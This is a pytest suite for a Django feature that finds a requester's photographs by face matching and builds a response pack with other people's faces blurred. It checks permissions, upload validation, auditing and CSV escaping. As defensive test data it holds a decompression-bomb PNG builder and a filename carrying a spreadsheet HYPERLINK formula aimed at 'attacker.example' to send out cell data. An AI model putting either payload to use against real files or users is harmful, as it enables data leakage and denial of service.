"""Data access requests end to end on real portraits: upload, search, confirm, respond."""

from __future__ import annotations

import csv
import datetime
import hashlib
import io
import struct
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from governance.models import AuditEvent
from governance.privacy.models import (
    DataAccessRequest,
    PersonalDataView,
    ReferencePhoto,
    ResponsePack,
)
from governance.privacy.services.reference_photos import (
    reference_photo_add,
    reference_photo_choose_face,
)
from governance.privacy.services.requests import (
    access_request_create,
    access_request_search,
    request_candidate_decide,
)
from governance.privacy.services.response_packs import response_pack_build
from inventory.imaging.faces import FacePolicy, detect_faces
from inventory.models import Copy, Face
from inventory.sample_archive import PHOTOS_DIR
from tests.privacy.dsar_helpers import (
    PAIR_OFFSET_Y,
    astronaut_reference,
    build_face_archive,
    enable_encodings,
    jpeg_upload,
    pair_photo,
    scan_face_archive,
)

pytestmark = pytest.mark.django_db
NON_LEGAL = ("compliance", "auditor", "manager")


@pytest.fixture
def face_archive(archives: Path, settings, role_users):
    """Two scanned sources with the astronaut in four files, encodings on."""
    enable_encodings(settings)
    archive = build_face_archive(archives)
    scan_face_archive(archive)
    return archive


def _request(legal, **kwargs) -> DataAccessRequest:
    return access_request_create(
        subject_reference=kwargs.get("subject_reference", "DSAR-2026-014"),
        received_on=kwargs.get("received_on", timezone.localdate()),
        notes=kwargs.get("notes", ""),
        created_by=legal,
    )


def _events(request: DataAccessRequest) -> list[str]:
    return list(
        AuditEvent.objects.filter(object_type="access_request", object_id=str(request.pk))
        .order_by("seq")
        .values_list("event_type", flat=True)
    )


def _tree_state(*roots: Path) -> dict[str, tuple[str, int]]:
    return {
        str(p): (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime_ns)
        for root in roots
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


def _png_header(width: int, height: int) -> bytes:
    """Return a tiny PNG whose header declares width x height pixels (a decompression bomb)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def _faces_in(image: Image.Image) -> list[tuple[int, int, int, int, float]]:
    return [b for b in detect_faces(image, FacePolicy()) if b[4] >= 0.5]


# --- the request and its clock --------------------------------------------------------------


def test_a_request_is_due_forty_days_after_it_was_received(role_users, settings) -> None:
    received = timezone.localdate() - datetime.timedelta(days=3)

    request = _request(role_users["legal"], received_on=received)

    assert settings.PROVENA_DSAR_DAYS == 40
    assert request.due_on == received + datetime.timedelta(days=40)
    assert request.status == DataAccessRequest.Status.OPEN
    event = AuditEvent.objects.get(event_type=AuditEvent.EventType.ACCESS_REQUEST_RECEIVED)
    assert event.agent == "legal"
    assert event.detail == {"received_on": received.isoformat(), "due_on": str(request.due_on)}
    # The subject's reference is personal data: it stays out of the log other roles read.
    assert "DSAR-2026-014" not in str(event.detail)


def test_a_request_received_in_the_future_or_without_a_reference_is_refused(role_users) -> None:
    with pytest.raises(ValidationError, match="future"):
        _request(role_users["legal"], received_on=timezone.localdate() + datetime.timedelta(1))
    with pytest.raises(ValidationError, match="reference"):
        _request(role_users["legal"], subject_reference="  ")
    assert not DataAccessRequest.objects.exists()


@pytest.mark.parametrize("role", NON_LEGAL)
def test_only_the_legal_role_may_work_a_request(role_users, role: str) -> None:
    with pytest.raises(PermissionDenied):
        _request(role_users[role])
    request = _request(role_users["legal"])
    with pytest.raises(PermissionDenied):
        reference_photo_add(
            request=request, upload=jpeg_upload(astronaut_reference()), uploaded_by=role_users[role]
        )
    with pytest.raises(PermissionDenied):
        access_request_search(request=request, user=role_users[role])
    with pytest.raises(PermissionDenied):
        response_pack_build(request=request, user=role_users[role])


# --- end to end -----------------------------------------------------------------------------


def test_search_confirm_and_respond_with_others_faces_blurred(
    face_archive, role_users, settings
) -> None:
    legal = role_users["legal"]
    before = _tree_state(face_archive.people, face_archive.press)
    request = _request(legal)

    photo = reference_photo_add(
        request=request, upload=jpeg_upload(astronaut_reference()), uploaded_by=legal
    )
    assert photo.chosen_face == 0 and len(photo.faces) == 1 and photo.encoding
    assert (Path(photo.path).parts[:2]) == ("access-requests", str(request.pk))

    result = access_request_search(request=request, user=legal)

    candidates = list(request.candidates.select_related("face").order_by("distance"))
    astronaut = face_archive.renditions_showing_astronaut()
    assert len(astronaut) == 3  # the original (two copies), the pair and the small copy
    assert {c.face.rendition_id for c in candidates} == astronaut
    assert result.candidates == len(candidates) == 3
    assert all(c.distance < 0.4 for c in candidates)
    assert [c.distance for c in candidates] == sorted(c.distance for c in candidates)
    # Grace Hopper's faces were searched too, and are further away than the threshold.
    hopper = Face.objects.filter(
        rendition__copies__path="portraits/grace_hopper.jpg", identifiable=True
    ).get()
    assert hopper.pk not in {c.face_id for c in candidates}
    assert result.searched == Face.objects.exclude(encoding=None).count()

    for candidate in candidates:
        request_candidate_decide(candidate=candidate, confirmed=True, user=legal)
    pack = response_pack_build(request=request, user=legal)

    request.refresh_from_db()
    # Building the pack is not sending it: the request waits for the reply to be recorded.
    assert request.status == DataAccessRequest.Status.OPEN and request.responded_at is None
    zip_path = Path(settings.PROVENA_MEDIA_ROOT) / pack.path
    assert hashlib.sha256(zip_path.read_bytes()).hexdigest() == pack.sha256
    with zipfile.ZipFile(zip_path) as archive:
        names = set(archive.namelist())
        rows = list(csv.DictReader(io.StringIO(archive.read("copies.csv").decode())))
        images = {n: archive.read(n) for n in names if n.startswith("images/")}
    assert {f"{r['source']}/{r['path']}" for r in rows} == face_archive.astronaut_paths
    assert pack.copies == 4 and pack.images == 3 == len(images)
    by_path = {r["path"]: r for r in rows}
    original = Copy.objects.get(path="portraits/astronaut.jpg")
    assert by_path["portraits/astronaut.jpg"]["sha256"] == original.sha256
    assert by_path["portraits/astronaut.jpg"]["department"] == "LCSD"
    assert by_path["web/astronaut_copy.jpg"]["department"] == "NEWS"
    assert by_path["web/astronaut_copy.jpg"]["image"] == by_path["portraits/astronaut.jpg"]["image"]
    assert int(by_path["portraits/astronaut.jpg"]["size"]) == original.size
    assert all(r["state"] == "present" and r["first_seen"] and r["asset"] for r in rows)

    # In the pair photo the astronaut is still there and Grace Hopper's face is blurred away.
    pair_row = by_path["portraits/pair.jpg"]
    with Image.open(io.BytesIO(images[pair_row["image"]])) as im:
        sent = im.convert("RGB")
    found = _faces_in(sent)
    assert len(found) == 1 and found[0][0] < 512  # only the left-hand face (the astronaut)
    hopper_box = Face.objects.get(rendition__copies__path="portraits/pair.jpg", left__gt=512)
    region = (
        hopper_box.left,
        hopper_box.top,
        hopper_box.left + hopper_box.width,
        hopper_box.top + hopper_box.height,
    )
    original_pair = np.asarray(pair_photo().crop(region), dtype=float)
    sent_region = np.asarray(sent.crop(region), dtype=float)
    assert np.abs(original_pair - sent_region).mean() > 10  # changed beyond JPEG noise
    astronaut_box = (175, 76 + PAIR_OFFSET_Y, 265, 166 + PAIR_OFFSET_Y)
    kept = np.abs(
        np.asarray(pair_photo().crop(astronaut_box), dtype=float)
        - np.asarray(sent.crop(astronaut_box), dtype=float)
    )
    assert kept.mean() < 6  # the subject's own face is left as it was

    assert _events(request) == [
        "access_request_received",
        "access_request_photo",
        "access_request_searched",
        "access_request_match",
        "access_request_match",
        "access_request_match",
        "access_request_pack_built",
    ]
    responded = AuditEvent.objects.get(event_type="access_request_pack_built")
    assert responded.detail["sha256"] == pack.sha256
    assert responded.detail["copies"] == 4
    # The scanned archive is evidence: read, never written.
    assert _tree_state(face_archive.people, face_archive.press) == before


def test_the_pack_lists_every_holding_of_her_photograph_even_where_her_face_was_not_confirmed(
    face_archive, role_users, settings
) -> None:
    legal = role_users["legal"]
    request = _request(legal)
    reference_photo_add(
        request=request, upload=jpeg_upload(astronaut_reference()), uploaded_by=legal
    )
    access_request_search(request=request, user=legal)
    original = Copy.objects.get(path="portraits/astronaut.jpg")
    small = Copy.objects.get(path="web/astronaut_small.jpg")
    assert small.rendition.asset_id == original.rendition.asset_id  # one photograph
    # Only the face on the original is confirmed; the small copy's is left out as unsure.
    for candidate in request.candidates.select_related("face"):
        confirmed = candidate.face.rendition_id == original.rendition_id
        request_candidate_decide(candidate=candidate, confirmed=confirmed, user=legal)

    pack = response_pack_build(request=request, user=legal)

    with zipfile.ZipFile(Path(settings.PROVENA_MEDIA_ROOT) / pack.path) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("copies.csv").decode())))
        images = [n for n in archive.namelist() if n.startswith("images/")]
    by_path = {r["path"]: r for r in rows}
    # The small copy is her photograph too: listed, with the photograph's image.
    assert set(by_path) == {"portraits/astronaut.jpg", "web/astronaut_copy.jpg", small.path}
    assert by_path[small.path]["rendition"] == str(small.rendition_id)
    assert by_path[small.path]["image"] == by_path["portraits/astronaut.jpg"]["image"]
    assert len(images) == pack.images == 1 and pack.copies == 3


def test_a_new_search_keeps_earlier_verdicts(face_archive, role_users) -> None:
    legal = role_users["legal"]
    request = _request(legal)
    reference_photo_add(
        request=request, upload=jpeg_upload(astronaut_reference()), uploaded_by=legal
    )
    access_request_search(request=request, user=legal)
    first, second, third = request.candidates.order_by("distance")
    request_candidate_decide(candidate=first, confirmed=True, user=legal)
    request_candidate_decide(candidate=second, confirmed=False, user=legal)

    again = access_request_search(request=request, user=legal)

    assert again.new == 0 and again.candidates == 3
    verdicts = dict(request.candidates.values_list("pk", "confirmed"))
    assert verdicts == {first.pk: True, second.pk: False, third.pk: None}


def test_the_pack_waits_until_every_candidate_is_decided(face_archive, role_users) -> None:
    legal = role_users["legal"]
    request = _request(legal)
    reference_photo_add(
        request=request, upload=jpeg_upload(astronaut_reference()), uploaded_by=legal
    )
    access_request_search(request=request, user=legal)

    with pytest.raises(ValidationError, match="3 candidate faces still to confirm or reject"):
        response_pack_build(request=request, user=legal)
    assert not ResponsePack.objects.exists()


def test_a_copy_changed_since_the_scan_is_listed_but_not_sent(face_archive, role_users, settings):
    legal = role_users["legal"]
    request = _request(legal)
    reference_photo_add(
        request=request, upload=jpeg_upload(astronaut_reference()), uploaded_by=legal
    )
    access_request_search(request=request, user=legal)
    for candidate in request.candidates.all():
        request_candidate_decide(candidate=candidate, confirmed=True, user=legal)
    # Someone replaced the pair photo after the scan: its faces no longer say where to blur.
    changed = face_archive.people / "portraits" / "pair.jpg"
    changed.write_bytes((PHOTOS_DIR / "coffee.jpg").read_bytes())

    pack = response_pack_build(request=request, user=legal)

    with zipfile.ZipFile(Path(settings.PROVENA_MEDIA_ROOT) / pack.path) as archive:
        rows = {
            r["path"]: r for r in csv.DictReader(io.StringIO(archive.read("copies.csv").decode()))
        }
        readme = archive.read("README.txt").decode()
    assert pack.copies == 4 and pack.images == 2
    assert rows["portraits/pair.jpg"]["image"] == ""
    assert "no copy could be read unchanged since the last scan" in readme
    event = AuditEvent.objects.get(event_type="access_request_pack_built")
    assert event.outcome == "warning" and event.detail["problems"]


# --- bad reference photos -------------------------------------------------------------------


@pytest.fixture
def open_request(role_users, settings) -> DataAccessRequest:
    enable_encodings(settings)
    return _request(role_users["legal"])


def _add(request: DataAccessRequest, upload, user) -> ReferencePhoto:
    return reference_photo_add(request=request, upload=upload, uploaded_by=user)


def test_a_file_that_is_not_an_image_is_refused_whatever_its_name(open_request, role_users) -> None:
    upload = SimpleUploadedFile("subject.jpg", b"Dear Sir, please send me my photos.\n" * 20)

    with pytest.raises(ValidationError, match="subject.jpg is not a JPEG, PNG, WebP or TIFF"):
        _add(open_request, upload, role_users["legal"])
    assert not ReferencePhoto.objects.exists()


def test_a_gif_is_refused_even_though_pillow_reads_it(open_request, role_users) -> None:
    buffer = io.BytesIO()
    astronaut_reference().save(buffer, "GIF")

    with pytest.raises(ValidationError, match="not a JPEG, PNG, WebP or TIFF"):
        _add(open_request, SimpleUploadedFile("face.gif", buffer.getvalue()), role_users["legal"])


def test_an_oversized_photo_is_refused(open_request, role_users, settings) -> None:
    settings.PROVENA_REFERENCE_PHOTO_MAX_BYTES = 4096
    upload = jpeg_upload(astronaut_reference())
    assert upload.size > 4096

    with pytest.raises(ValidationError, match="PROVENA_REFERENCE_PHOTO_MAX_BYTES"):
        _add(open_request, upload, role_users["legal"])


def test_a_png_declaring_a_huge_size_is_refused_as_a_bomb(open_request, role_users) -> None:
    bomb = SimpleUploadedFile("huge.png", _png_header(40_000, 40_000))

    with pytest.raises(
        ValidationError, match="decompression bomb: its header claims 1,600,000,000"
    ):
        _add(open_request, bomb, role_users["legal"])


def test_a_photo_over_the_configured_pixel_limit_is_refused(open_request, role_users, settings):
    settings.PROVENA_MAX_IMAGE_PIXELS = 50_000
    upload = jpeg_upload(astronaut_reference())  # 240 x 240 = 57,600 pixels

    with pytest.raises(ValidationError, match="57,600 pixels, more than the limit of 50,000"):
        _add(open_request, upload, role_users["legal"])


def test_a_photo_without_a_face_says_so(open_request, role_users) -> None:
    upload = SimpleUploadedFile("brick.jpg", (PHOTOS_DIR / "brick.jpg").read_bytes())

    with pytest.raises(ValidationError, match="no face found in brick.jpg; upload a photo where"):
        _add(open_request, upload, role_users["legal"])
    assert not ReferencePhoto.objects.exists()


def test_a_photo_with_two_faces_asks_which_is_the_subject(open_request, role_users) -> None:
    legal = role_users["legal"]

    photo = _add(open_request, jpeg_upload(pair_photo(), "pair.jpg"), legal)

    assert len(photo.faces) == 2
    assert photo.chosen_face is None and photo.encoding is None
    assert photo.faces[0][0] < 512 < photo.faces[1][0]  # left to right
    with pytest.raises(ValidationError, match="pick the subject's face"):
        access_request_search(request=open_request, user=legal)
    with pytest.raises(ValidationError, match="choose one of the 2 faces"):
        reference_photo_choose_face(photo=photo, face=2, user=legal)

    chosen = reference_photo_choose_face(photo=photo, face=0, user=legal)

    assert chosen.chosen_face == 0 and chosen.encoding
    assert AuditEvent.objects.filter(event_type="access_request_photo").count() == 2


def test_the_same_photo_twice_is_refused(open_request, role_users) -> None:
    _add(open_request, jpeg_upload(astronaut_reference(), "a.jpg"), role_users["legal"])

    with pytest.raises(ValidationError, match="already uploaded"):
        _add(open_request, jpeg_upload(astronaut_reference(), "b.jpg"), role_users["legal"])


# --- no encodings to search -------------------------------------------------------------------


def test_searching_an_archive_scanned_without_encodings_says_what_to_turn_on(
    archives, settings, role_users
) -> None:
    enable_encodings(settings)
    settings.PROVENA_FACE_ENCODINGS = False
    scan_face_archive(build_face_archive(archives))
    assert Face.objects.exists() and not Face.objects.exclude(encoding=None).exists()
    legal = role_users["legal"]
    request = _request(legal)
    _add(request, jpeg_upload(astronaut_reference()), legal)

    with pytest.raises(ValidationError, match="PROVENA_FACE_ENCODINGS=true") as off:
        access_request_search(request=request, user=legal)
    assert "re-run the face pass" in str(off.value)

    settings.PROVENA_FACE_ENCODINGS = True
    with pytest.raises(ValidationError, match="7 photographs have not been through the face pass"):
        access_request_search(request=request, user=legal)
    assert not AuditEvent.objects.filter(event_type="access_request_searched").exists()


def test_searching_without_a_reference_photo_says_to_upload_one(open_request, role_users):
    with pytest.raises(ValidationError, match="upload a reference photo"):
        access_request_search(request=open_request, user=role_users["legal"])


# --- pages ------------------------------------------------------------------------------------


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _image_upload(path: Path, name: str | None = None) -> SimpleUploadedFile:
    return SimpleUploadedFile(name or path.name, path.read_bytes(), content_type="image/jpeg")


def test_a_legal_reviewer_works_a_request_through_the_pages(face_archive, role_users) -> None:
    legal = role_users["legal"]
    client = _client(legal)
    today = timezone.localdate()

    response = client.post(
        reverse("dsar-create"),
        {"subject_reference": "DSAR-7", "received_on": today.isoformat(), "notes": "by post"},
    )
    request = DataAccessRequest.objects.get()
    assert response.status_code == 302 and response.url == reverse("dsar-detail", args=[request.pk])
    listing = client.get(reverse("dsar-list")).content.decode()
    assert "DSAR-7" in listing and "40 days left" in listing

    upload = jpeg_upload(astronaut_reference(), "subject.jpg")
    response = client.post(reverse("dsar-photo-upload", args=[request.pk]), {"photo": upload})
    assert response.status_code == 302
    photo = request.reference_photos.get()
    page = client.get(reverse("dsar-detail", args=[request.pk])).content.decode()
    left, top, width, height = photo.faces[0]
    assert f'x="{left}" y="{top}" width="{width}" height="{height}"' in page  # the outline
    image = client.get(reverse("dsar-photo-image", args=[request.pk, photo.pk]))
    assert image.status_code == 200 and image["Content-Type"] == "image/jpeg"
    assert image["Cache-Control"] == "private, no-store"
    assert PersonalDataView.objects.filter(user=legal, kind="reference").count() == 1

    response = client.post(reverse("dsar-search", args=[request.pk]), follow=True)
    assert "3 candidates within distance 0.60" in response.content.decode()
    candidate = request.candidates.order_by("distance").first()
    crop = client.get(reverse("dsar-candidate-face", args=[request.pk, candidate.pk]))
    assert crop.status_code == 200
    with Image.open(io.BytesIO(crop.content)) as im:
        assert len(_faces_in(im.convert("RGB"))) == 1  # the crop shows the face
    assert PersonalDataView.objects.filter(
        user=legal, kind="thumbnail", rendition=candidate.face.rendition
    ).exists()

    for each in request.candidates.all():
        verdict = "confirm" if each.pk == candidate.pk else "reject"
        response = client.post(
            reverse("dsar-candidate-decide", args=[request.pk, each.pk]), {"verdict": verdict}
        )
        assert response.status_code == 302
    response = client.post(reverse("dsar-pack-build", args=[request.pk]), follow=True)
    assert "Response pack built" in response.content.decode()
    pack = request.response_packs.get()
    download = client.get(reverse("dsar-pack-download", args=[request.pk, pack.pk]))
    assert download.status_code == 200
    body = b"".join(download.streaming_content)
    assert hashlib.sha256(body).hexdigest() == pack.sha256
    assert "attachment" in download["Content-Disposition"]
    assert _events(request)[-1] == "access_request_pack_built"


@pytest.mark.parametrize(
    ("post", "expected"),
    [
        ({"photo": SimpleUploadedFile("notes.jpg", b"not a photo at all" * 10)}, "not a JPEG"),
        ({}, "Choose a photo"),
        (
            {"photo": SimpleUploadedFile("brick.jpg", (PHOTOS_DIR / "brick.jpg").read_bytes())},
            "no face found in brick.jpg",
        ),
    ],
)
def test_a_bad_upload_on_the_page_gets_400_and_says_why(
    open_request, role_users, post, expected
) -> None:
    client = _client(role_users["legal"])

    response = client.post(reverse("dsar-photo-upload", args=[open_request.pk]), post)

    assert response.status_code == 400
    assert expected in response.content.decode()


def test_an_oversized_upload_on_the_page_gets_413(open_request, role_users, settings) -> None:
    settings.PROVENA_REFERENCE_PHOTO_MAX_BYTES = 1024
    big = SimpleUploadedFile("big.jpg", (PHOTOS_DIR / "grass.jpg").read_bytes())

    response = _client(role_users["legal"]).post(
        reverse("dsar-photo-upload", args=[open_request.pk]), {"photo": big}
    )

    assert response.status_code == 413
    assert "PROVENA_REFERENCE_PHOTO_MAX_BYTES" in response.content.decode()


def test_bad_choices_on_the_pages_get_400_not_500(open_request, role_users) -> None:
    legal = role_users["legal"]
    client = _client(legal)
    photo = _add(open_request, jpeg_upload(pair_photo(), "pair.jpg"), legal)
    page = client.get(reverse("dsar-detail", args=[open_request.pk])).content.decode()
    assert "Which face is the subject" in page and "Face 2" in page

    for face in ("", "x", "-1", "7"):
        response = client.post(
            reverse("dsar-photo-choose", args=[open_request.pk, photo.pk]), {"face": face}
        )
        assert response.status_code == 400, face
    response = client.post(reverse("dsar-search", args=[open_request.pk]))
    assert response.status_code == 400
    assert "pick the subject" in response.content.decode()
    response = client.post(
        reverse("dsar-photo-choose", args=[open_request.pk, photo.pk]), {"face": "1"}
    )
    assert response.status_code == 302
    response = client.post(reverse("dsar-pack-build", args=[open_request.pk]))
    assert response.status_code == 400
    assert "search the archive for the subject before" in response.content.decode()
    missing = client.post(reverse("dsar-candidate-decide", args=[open_request.pk, 999]), {})
    assert missing.status_code == 404


def test_pages_refuse_other_roles_and_send_visitors_to_log_in(open_request, role_users) -> None:
    pk = open_request.pk
    gets = [
        reverse("dsar-list"),
        reverse("dsar-create"),
        reverse("dsar-detail", args=[pk]),
        reverse("dsar-photo-image", args=[pk, 1]),
        reverse("dsar-candidate-face", args=[pk, 1]),
        reverse("dsar-pack-download", args=[pk, 1]),
    ]
    posts = [
        reverse("dsar-create"),
        reverse("dsar-photo-upload", args=[pk]),
        reverse("dsar-photo-choose", args=[pk, 1]),
        reverse("dsar-search", args=[pk]),
        reverse("dsar-candidate-decide", args=[pk, 1]),
        reverse("dsar-pack-build", args=[pk]),
    ]
    for role in NON_LEGAL:
        client = _client(role_users[role])
        for url in gets:
            assert client.get(url).status_code == 403, (role, url)
        for url in posts:
            assert client.post(url, {"verdict": "confirm", "face": "0"}).status_code == 403
    visitor = Client()
    for url in gets:
        response = visitor.get(url)
        assert response.status_code == 302 and response.url.startswith("/login/")
    assert DataAccessRequest.objects.count() == 1
    assert _events(open_request) == ["access_request_received"]


# --- API --------------------------------------------------------------------------------------


def _api(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_the_api_works_a_request_end_to_end(face_archive, role_users) -> None:
    api = _api(role_users["legal"])
    created = api.post(
        "/api/access-requests/",
        {"subject_reference": "DSAR-API", "received_on": timezone.localdate().isoformat()},
        content_type="application/json",
    )
    assert created.status_code == 201, created.content
    pk = created.json()["id"]
    assert created.json()["days_left"] == 40

    photo = api.post(
        f"/api/access-requests/{pk}/photos/", {"file": jpeg_upload(astronaut_reference())}
    )
    assert photo.status_code == 201, photo.content
    assert photo.json()["chosen_face"] == 0 and "encoding" not in photo.json()

    search = api.post(f"/api/access-requests/{pk}/search/")
    assert search.status_code == 200, search.content
    body = search.json()
    assert body["result"]["candidates"] == 3
    found = body["candidates"]
    assert {c["rendition"] for c in found} == face_archive.renditions_showing_astronaut()
    assert all("encoding" not in c for c in found)
    assert any({"source": "press", "path": "web/astronaut_copy.jpg"} in c["copies"] for c in found)

    for candidate in found:
        decided = api.post(
            f"/api/access-requests/{pk}/candidates/{candidate['id']}/decide/",
            {"confirmed": True},
            content_type="application/json",
        )
        assert decided.status_code == 200 and decided.json()["confirmed"] is True
    pack = api.post(f"/api/access-requests/{pk}/pack/")
    assert pack.status_code == 201, pack.content
    assert pack.json()["copies"] == 4
    download = api.get(pack.json()["download"])
    assert download.status_code == 200
    assert hashlib.sha256(b"".join(download.streaming_content)).hexdigest() == pack.json()["sha256"]
    detail = api.get(f"/api/access-requests/{pk}/").json()
    assert detail["status"] == "open" and detail["confirmed"] == 3  # built, not yet sent

    sent = api.post(
        f"/api/access-requests/{pk}/reply/",
        {
            "kind": "full",
            "pack": pack.json()["id"],
            "sent_on": timezone.localdate().isoformat(),
            "means": "e-mail",
        },
        content_type="application/json",
    )
    assert sent.status_code == 201, sent.content
    assert sent.json()["late"] is False and sent.json()["pack"] == pack.json()["id"]
    closed = api.post(f"/api/access-requests/{pk}/close/", {}, content_type="application/json")
    assert closed.status_code == 200, closed.content
    detail = closed.json()
    assert detail["status"] == "closed" and detail["replies"][0]["kind"] == "full"
    assert detail["retention_until"] and detail["data_purged_at"] is None


def test_the_api_refuses_bad_photos_with_a_message(open_request, role_users, settings) -> None:
    api = _api(role_users["legal"])
    url = f"/api/access-requests/{open_request.pk}/photos/"

    not_image = api.post(url, {"file": SimpleUploadedFile("x.jpg", b"hello" * 100)})
    assert not_image.status_code == 400 and "not a JPEG" in str(not_image.json())
    missing = api.post(url, {})
    assert missing.status_code == 400 and "multipart field 'file'" in str(missing.json())
    bomb = api.post(url, {"file": SimpleUploadedFile("huge.png", _png_header(40_000, 40_000))})
    assert bomb.status_code == 400 and "decompression bomb" in str(bomb.json())
    settings.PROVENA_REFERENCE_PHOTO_MAX_BYTES = 1024
    large = api.post(url, {"file": _image_upload(PHOTOS_DIR / "grass.jpg")})
    assert large.status_code == 413
    bad_verdict = api.post(
        f"/api/access-requests/{open_request.pk}/candidates/1/decide/",
        {"confirmed": "maybe"},
        content_type="application/json",
    )
    assert bad_verdict.status_code == 404  # no such candidate on this request
    assert not ReferencePhoto.objects.exists()


@pytest.mark.parametrize("role", NON_LEGAL)
def test_the_api_refuses_other_roles(open_request, role_users, role) -> None:
    api = _api(role_users[role])
    pk = open_request.pk

    assert api.get("/api/access-requests/").status_code == 403
    assert api.get(f"/api/access-requests/{pk}/").status_code == 403
    assert api.get(f"/api/access-requests/{pk}/candidates/").status_code == 403
    created = api.post(
        "/api/access-requests/",
        {"subject_reference": "X", "received_on": timezone.localdate().isoformat()},
        content_type="application/json",
    )
    assert created.status_code == 403
    assert api.post(f"/api/access-requests/{pk}/search/").status_code == 403
    assert api.post(f"/api/access-requests/{pk}/pack/").status_code == 403
    photo = api.post(
        f"/api/access-requests/{pk}/photos/", {"file": jpeg_upload(astronaut_reference())}
    )
    assert photo.status_code == 403
    assert Client().get("/api/access-requests/").status_code == 401
    assert DataAccessRequest.objects.count() == 1 and not ReferencePhoto.objects.exists()


def test_the_schema_documents_the_access_request_api(role_users) -> None:
    schema = _api(role_users["legal"]).get("/api/schema/", HTTP_ACCEPT="application/json")

    paths = schema.json()["paths"]
    assert "/api/access-requests/{id}/photos/" in paths
    assert (
        "multipart/form-data"
        in paths["/api/access-requests/{id}/photos/"]["post"]["requestBody"]["content"]
    )
    assert "/api/access-requests/{id}/candidates/{candidate_id}/decide/" in paths


def test_a_missing_reference_file_is_a_404_and_a_note_not_a_500(open_request, role_users, settings):
    legal = role_users["legal"]
    photo = _add(open_request, jpeg_upload(astronaut_reference()), legal)
    (Path(settings.PROVENA_MEDIA_ROOT) / photo.path).unlink()
    client = _client(legal)

    page = client.get(reverse("dsar-detail", args=[open_request.pk]))
    image = client.get(reverse("dsar-photo-image", args=[open_request.pk, photo.pk]))

    assert page.status_code == 200 and "the stored file is missing" in page.content.decode()
    assert image.status_code == 404
    assert not PersonalDataView.objects.exists()


def test_a_hostile_file_name_reaches_the_response_pack_as_text(archives, settings, role_users):
    """copies.csv goes to an outside party: a formula in a path must not run when opened."""
    enable_encodings(settings)
    archive = build_face_archive(archives)
    hostile = '=HYPERLINK("attacker.example?"&A1,"open").jpg'
    # At the source's root, so the path relative to it starts with "=".
    (archive.press / "web" / "astronaut_copy.jpg").rename(archive.press / hostile)
    scan_face_archive(archive)
    legal = role_users["legal"]
    request = _request(legal)
    reference_photo_add(
        request=request, upload=jpeg_upload(astronaut_reference()), uploaded_by=legal
    )
    access_request_search(request=request, user=legal)
    for candidate in request.candidates.all():
        request_candidate_decide(candidate=candidate, confirmed=True, user=legal)

    pack = response_pack_build(request=request, user=legal)

    with zipfile.ZipFile(Path(settings.PROVENA_MEDIA_ROOT) / pack.path) as zipped:
        rows = list(csv.DictReader(io.StringIO(zipped.read("copies.csv").decode())))
    paths = {r["path"] for r in rows if r["source"] == "press"}
    assert paths == {"'" + hostile, "web/astronaut_small.jpg"}
